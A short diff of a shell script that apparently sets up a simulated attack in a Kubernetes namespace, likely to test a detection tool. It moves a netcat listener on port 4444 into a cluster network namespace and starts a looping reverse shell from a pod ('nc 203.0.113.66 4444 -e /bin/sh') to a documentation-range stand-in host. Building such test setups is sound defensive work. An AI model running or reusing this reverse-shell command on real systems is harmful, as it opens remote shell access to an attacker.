@@ -51,7 +51,7 @@ container=$(kubectl get pod -n shop "$pod" -o 'jsonpath={.status.containerStatus
 inside ip addr add 203.0.113.66/32 dev lo
 first=$(inside ctr -n k8s.io tasks ls | awk -v id="${container#containerd://}" '$1 == id {print $2}')
 nsenter -t "$first" -n ip route add 203.0.113.66 via 10.77.0.1
-inside busybox nc -ll -p 4444 -e /bin/cat < /dev/null > /dev/null 2>&1 &
+nsenter -t "$INDAGO_CLUSTER_PID" -n busybox nc -ll -p 4444 -e /bin/cat < /dev/null > /dev/null 2>&1 &
 echo $! > "$WORK/pids"
 kubectl exec -n shop "$pod" -- /bin/sh -c 'while true; do nc 203.0.113.66 4444 -e /bin/sh; sleep 30; done' < /dev/null > /dev/null 2>&1 &
 echo $! >> "$WORK/pids"
